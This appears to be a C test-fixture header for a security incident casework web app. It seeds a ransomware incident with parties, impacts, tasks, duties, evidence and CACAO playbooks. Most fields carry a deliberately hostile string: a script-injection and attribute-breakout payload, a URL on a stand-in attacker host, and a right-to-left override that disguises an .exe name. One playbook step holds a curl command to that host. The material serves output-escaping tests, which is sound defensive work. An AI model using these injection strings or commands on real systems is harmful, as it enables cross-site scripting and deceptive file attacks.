/* SPDX-License-Identifier: Apache-2.0 */
#pragma once
/*
 * For tests of pages of casework: an incident with everything around it, hostile text in each of its fields, in which
 * the other organisation of the cast is a victim; and a restricted one. Include web/test_people_page.h before.
 */
#include "case/opinion.h"
#include "case/playbook.h"
#include "case/task.h"
#include "plan/duty.h"
#include "store/approval.h"
#include "store/duty.h"
#include "store/evidence.h"
#include "store/organisation.h"
#include "store/playbook.h"

#define TEST_INCIDENT 1 /* numbers */
#define TEST_RESTRICTED 2
#define TEST_WITHDRAWN 4
#define TEST_TASK_THEIRS 1
#define TEST_TASK_OURS 2
#define TEST_PLAYBOOK_ATTACK 1
#define TEST_PLAYBOOK_STARTED 2
#define TEST_HOSTILE "<script>alert(1)</script> \"onload=\"x http://evil.example/\xe2\x80\xaegpj.exe"

static inline struct err test_case_incidents(struct work *work)
{
    struct case_incident_put put = {.title = S(TEST_HOSTILE),
            .class = S("malicious-code/infected-system"),
            .local_class = S("ransomware"),
            .severity = SEVERITY_HIGH,
            .criticality = 90,
            .sector = S("health"),
            .vital = true,
            .personal_data = true};
    int64_t number;
    for (enum incident_when i = 0; i < INCIDENT_WHENS; i++)
        put.at[i] = TIME_NONE;
    put.at[INCIDENT_KNOWN_AT] = work->now_us - HOUR_US;
    TRY(case_incident_open(work, &put, &number));
    put.title = S("Held close");
    put.flags = S("restricted");
    return case_incident_open(work, &put, &number);
}

static inline struct err test_case_entry(
        struct work *work, enum entry_kind kind, int64_t audience, const char *text, int64_t due_us)
{
    struct incident_entry put = {.kind = kind,
            .happened_us = TIME_NONE,
            .audience = audience,
            .text = slice_of(text),
            .source = S(TEST_HOSTILE),
            .due_us = due_us};
    int64_t number;
    return case_entry_add(work, TEST_INCIDENT, &put, &number);
}

static inline struct err test_case_around(struct work *work, const struct test_cast *cast)
{
    struct impact loss = {.kind = S("loss"),
            .low = 100,
            .high = 250,
            .unit = S("IDR"),
            .basis = S(TEST_HOSTILE),
            .confidence = S("low"),
            .organisation = cast->other,
            .at_us = TIME_NONE};
    struct impact diverted = {.kind = S("patients-diverted"),
            .low = 12,
            .high = 14,
            .unit = S(""),
            .basis = S("ward list"),
            .confidence = S("medium"),
            .organisation = cast->other,
            .at_us = TIME_NONE};
    const struct organisation_put lab = {.name = S("Lab Melur"),
            .kind = S("supplier"),
            .sector = S(""),
            .country = S(""),
            .relation = RELATION_OTHER};
    int64_t number;
    TRY(case_party_add(work, TEST_INCIDENT, cast->other, PARTY_VICTIM, S("they called")));
    TRY(store_organisation_add(work, &lab, &number));
    TRY(case_party_add(work, TEST_INCIDENT, number, PARTY_SUPPLIER, S("it came from there")));
    TRY(store_supply_put(work, number, cast->own, S("blood tests " TEST_HOSTILE)));
    TRY(case_observable_add(work, TEST_INCIDENT, S("url"), S("http://evil.example/a")));
    TRY(case_impact_add(work, TEST_INCIDENT, &loss, &number));
    TRY(case_impact_add(work, TEST_INCIDENT, &diverted, &number));
    TRY(case_scale_put(work, TEST_INCIDENT, S("uk-ncsc"), S("C3"), S("their officer")));
    TRY(case_incident_link(work, TEST_INCIDENT, TEST_RESTRICTED, S("related")));
    TRY(test_case_entry(work, ENTRY_NOTE, AUDIENCE_OWN, "for our own eyes", TIME_NONE));
    TRY(test_case_entry(work, ENTRY_NOTE, AUDIENCE_PARTIES, "for all parties " TEST_HOSTILE, TIME_NONE));
    TRY(test_case_entry(work, ENTRY_QUESTION, cast->other, "which machines", work->now_us + HOUR_US));
    TRY(test_case_entry(work, ENTRY_NOTE, AUDIENCE_PARTIES, "taken back", TIME_NONE));
    TRY(case_entry_withdraw(work, TEST_INCIDENT, TEST_WITHDRAWN, S("another machine " TEST_HOSTILE)));
    const struct case_opinion_put opinion = {
            S("strongly-agree"), S("as we see it " TEST_HOSTILE), S("http://evil.example/a"), AUDIENCE_PARTIES};
    return case_opinion(work, TEST_INCIDENT, &opinion, &number);
}

static inline struct err test_case_tasks(struct work *work, const struct test_cast *cast)
{
    const int64_t before = TEST_TASK_THEIRS;
    struct case_task_put put = {.incident = TEST_INCIDENT,
            .title = S("Cut it off " TEST_HOSTILE),
            .text = S("At once " TEST_HOSTILE),
            .organisation = cast->other,
            .due_us = work->now_us - HOUR_US,
            .agreed_by = S("clinical owner"),
            .step = S("")};
    int64_t number;
    TRY(case_task_add(work, &put, &number));
    put = (struct case_task_put){.incident = TEST_INCIDENT,
            .title = S("Keep the memory"),
            .text = S(""),
            .person = S("analyst"),
            .due_us = work->now_us + HOUR_US,
            .agreed_by = S(""),
            .step = S(""),
            .befores = &before,
            .before_count = 1};
    return case_task_add(work, &put, &number);
}

static inline struct err test_case_law(struct work *work, const struct test_cast *cast)
{
    static const enum duty_state ends[] = {DUTY_LATE, DUTY_MET, DUTY_WAIVED};
    struct plan_duties rules;
    TRY(plan_duty_shipped(work->arena, &rules));
    for (size_t i = 0; i <= COUNT_OF(ends); i++) {
        struct duty duty = {.incident = TEST_INCIDENT,
                .rule = rules.rows[0].name,
                .version = rules.rows[0].version,
                .text = rules.rows[0].text,
                .organisation = cast->other,
                .recipient = S("an authority"),
                .starts_us = work->now_us - HOUR_US,
                .due_us = work->now_us + HOUR_US,
                .remind_us = TIME_NONE};
        struct duty_end end = {.filed_us = work->now_us,
                .filed_by = S("wati"),
                .reference = S("LP/7"),
                .why = S(TEST_HOSTILE),
                .form = S("We report. " TEST_HOSTILE)};
        int64_t number;
        TRY(store_duty_add(work, &duty, &number));
        end.state = i == 0 ? DUTY_RUNNING : ends[i - 1];
        if (i > 0)
            TRY(store_duty_end(work, number, &end));
    }
    return OK;
}

static inline struct err test_case_evidence(struct work *work, const struct test_cast *cast)
{
    const struct evidence put = {.incident = TEST_INCIDENT,
            .name = S("disk<i>tag.img"),
            .what = S(TEST_HOSTILE),
            .place = S("room 4"),
            .person = S("wati"),
            .tool = S("dd"),
            .basis = S("order 12"),
            .acquired_us = work->now_us,
            .clock_error_us = 4000,
            .bytes = 17,
            .digest = S("01234567890123456789012345678901"),
            .digest_512 = S("0123456789012345678901234567890101234567890123456789012345678901"),
            .seal = S("sealed"),
            .mark = S("01234567890123456789012345678901"),
            .hold_until_us = work->now_us + DAY_US,
            .keep_until_us = TIME_NONE};
    const struct evidence_package package = {
            .incident = TEST_INCIDENT, .organisation = cast->own, .their_reference = S("LP/7")};
    struct custody custody = {.step = 1,
            .time_us = work->now_us,
            .act = S("acquired"),
            .actor = S("wati"),
            .to_whom = S(""),
            .why = S(TEST_HOSTILE),
            .entry = S("{}\n"),
            .before = S(""),
            .signature = S("s"),
            .key = S("k"),
            .other_signature = S("t"),
            .other_key = S("taker")};
    int64_t number, made;
    TRY(store_evidence_add(work, &put, &number));
    custody.evidence = number;
    TRY(store_custody_add(work, &custody));
    return store_package_add(work, &package, &number, 1, &made);
}

/* Somebody decides which way it goes; one of the two ways is a step whose every word is hostile. */
#define TEST_PLAYBOOK(digit, types)                                                                                    \
    "{\"type\":\"playbook\",\"spec_version\":\"cacao-2.0\",\"id\":\"playbook--6b616c61-0000-4000-8000-"                \
    "00000000000" digit                                                                                                \
    "\",\"name\":\"Ransomware <script>alert(1)</script> \\\"onload=\\\"x http://evil.example/\xe2\x80\xaegpj.exe\","   \
    "\"playbook_types\":[\"" types "\"],\"created_by\":\"identity--6b616c61-0000-4000-8000-000000000009\","            \
    "\"created\":\"2026-11-01T00:00:00.000Z\",\"modified\":\"2026-11-01T00:00:00.000Z\","                              \
    "\"workflow_start\":\"start--6b616c61-0000-4000-8000-000000000010\",\"workflow\":{"                                \
    "\"start--6b616c61-0000-4000-8000-000000000010\":{\"type\":\"start\",\"on_completion\":"                           \
    "\"if-condition--6b616c61-0000-4000-8000-000000000011\"},"                                                         \
    "\"if-condition--6b616c61-0000-4000-8000-000000000011\":{\"type\":\"if-condition\",\"name\":\"Is it spreading\","  \
    "\"condition\":\"it spreads\",\"on_true\":\"action--6b616c61-0000-4000-8000-000000000012\","                       \
    "\"on_completion\":\"action--6b616c61-0000-4000-8000-000000000013\"},"                                             \
    "\"action--6b616c61-0000-4000-8000-000000000012\":{\"type\":\"action\",\"name\":\"Cut off "                        \
    "<script>alert(1)</script> "                                                                                       \
    "\\\"onload=\\\"x http://evil.example/\xe2\x80\xaegpj.exe\",\"commands\":[{\"type\":\"bash\",\"command\":"         \
    "\"curl http://evil.example/ <script>alert(1)</script>\"}],"                                                       \
    "\"agent\":\"organization--6b616c61-0000-4000-8000-000000000040\","                                                \
    "\"on_completion\":\"end--6b616c61-0000-4000-8000-000000000014\"},"                                                \
    "\"action--6b616c61-0000-4000-8000-000000000013\":{\"type\":\"action\",\"name\":\"Tell them\","                    \
    "\"commands\":[{\"type\":\"manual\",\"command\":\"Tell them.\"}],"                                                 \
    "\"agent\":\"organization--6b616c61-0000-4000-8000-000000000040\","                                                \
    "\"on_completion\":\"end--6b616c61-0000-4000-8000-000000000015\"},"                                                \
    "\"end--6b616c61-0000-4000-8000-000000000014\":{\"type\":\"end\"},"                                                \
    "\"end--6b616c61-0000-4000-8000-000000000015\":{\"type\":\"end\"}},\"agent_definitions\":{"                        \
    "\"organization--6b616c61-0000-4000-8000-000000000040\":{\"type\":\"organization\",\"name\":"                      \
    "\"<script>alert(1)</script> \\\"onload=\\\"x\"}}}"

/* One that is started in the incident, and one that attacks. */
static inline struct err test_case_playbooks(struct work *work)
{
    int64_t number;
    size_t tasks;
    TRY(case_playbook_add(work, "attack", S(TEST_PLAYBOOK("2", "attack")), S(""), &number));
    TRY(case_playbook_approve(work, number, S("read")));
    TRY(case_playbook_add(
            work, "mitigation", S(TEST_PLAYBOOK("1", "mitigation")), S("malicious-code/infected-system"), &number));
    TRY(case_playbook_approve(work, number, S("read")));
    return case_playbook_start(work, number, TEST_INCIDENT, &tasks);
}

static inline struct err test_case_work(struct work *work, void *context)
{
    const struct test_cast *cast = context;
    const struct approval waiting = {.act = S("incident.time"),
            .subject = S("incident/1"),
            .detail = S("{\"what\":\"known\"}"),
            .reason = S("the mail was older " TEST_HOSTILE),
            .state = APPROVAL_OPEN,
            .expires_us = work->now_us + DAY_US};
    struct approval waiver = waiting;
    int64_t number;
    waiver.act = S("duty.waive");
    waiver.subject = S("duty/1");
    TRY(test_case_incidents(work));
    TRY(test_case_around(work, cast));
    TRY(test_case_tasks(work, cast));
    TRY(test_case_law(work, cast));
    TRY(test_case_evidence(work, cast));
    TRY(store_approval_add(work, &waiting, &number));
    TRY(store_approval_add(work, &waiver, &number));
    TRY(test_case_playbooks(work));
    const struct incident_time time = {.what = INCIDENT_KNOWN_AT,
            .before_us = work->now_us,
            .after_us = work->now_us - HOUR_US,
            .proposer = S("iwan"),
            .why = S(TEST_HOSTILE)};
    TRY(store_incident_class(work, TEST_INCIDENT, S("fraud/phishing"), S(""), S(TEST_HOSTILE)));
    return store_incident_time(work, TEST_INCIDENT, &time);
}
